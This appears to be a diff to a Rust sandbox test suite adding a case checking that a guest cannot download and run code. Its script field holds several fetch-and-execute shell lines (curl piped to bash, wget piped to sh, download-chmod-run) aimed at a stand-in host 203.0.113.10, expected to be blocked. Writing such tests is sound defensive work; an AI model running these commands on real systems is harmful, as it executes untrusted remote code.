@@ -1,4 +1,4 @@
-//! Programs by other names, by their loader, and without a file (A12 to A14).
+//! Programs by other names, by their loader, without a file, and fetched from elsewhere (A12 to A14, A23).
 
 use crate::attack::{Attack, Harm};
 use crate::guest::Who;
@@ -81,6 +81,23 @@ python3 memory.py memfd; python3 memory.py unlinked"#,
             &["/tmp/x", "\"EACCES\""],
             &["memfd", "\"EACCES\""],
             &["/dev/shm/y", "\"EACCES\""],
+        ],
+    },
+    Attack {
+        name: "A23_nothing_is_fetched_and_run",
+        who: Who::Dev,
+        before: "",
+        // The attacker's server answers with `planted-answer`, which a shell that runs it complains of.
+        script: r#"
+curl -sm5 -o /tmp/a http://203.0.113.10/a && chmod +x /tmp/a && /tmp/a
+curl -sm5 http://203.0.113.10/a | bash
+cat < <(sh < <(wget -qT5 -t1 -O- http://203.0.113.10/a) 2>&1)
+printf '#!/bin/sh\necho planted-answer\n' >/tmp/b && chmod +x /tmp/b && /tmp/b"#,
+        harm: Harm::Said("planted-answer", 4),
+        told: &[
+            &["203.0.113.10", "\"ENETUNREACH\"", "/usr/bin/curl"],
+            &["203.0.113.10", "\"ENETUNREACH\"", "/usr/bin/wget"],
+            &["/tmp/b", "\"EACCES\"", "\"execute\""],
         ],
     },
 ];
